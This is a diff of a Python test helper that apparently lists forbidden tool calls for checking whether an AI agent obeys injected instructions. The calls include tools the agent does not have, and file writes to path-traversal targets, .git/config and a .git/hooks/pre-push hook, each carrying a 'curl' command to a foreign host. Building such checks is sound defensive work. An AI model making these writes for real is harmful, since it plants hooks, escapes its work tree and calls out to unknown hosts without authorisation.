@@ -8,6 +8,8 @@ from typing import Any
 from injection_places import acting, short
 
 Json = dict[str, Any]
+OUTSIDE = "written-outside.txt"
+"""A file that stands in no work tree."""
 NO_TOOLS = ("merge_pull_request", "create_branch", "add_comment", "http_get", "close_issue")
 
 
@@ -45,7 +47,7 @@ def reaching_out(foreign: str) -> str:
 
 def _forbidden_calls(foreign: str, tools: tuple[str, ...]) -> list[Json]:
     """Calls of tools that are not there, and of those that are with what they must not be given."""
-    paths = ("../../../../tmp/evil.txt", "/tmp/evil.txt", ".git/config", ".git/hooks/pre-push")
+    paths = (f"../../{OUTSIDE}", f"../../../../{OUTSIDE}", f"/{OUTSIDE}", ".git/config", ".git/hooks/pre-push")
     calls = [{"tool": name, "input": {"url": f"{foreign}/tool", "branch": "main", "number": 2}} for name in tools]
     calls += [{"tool": "write", "input": {"file_path": path, "content": f"curl {foreign}/{path}"}} for path in paths]
     calls += [
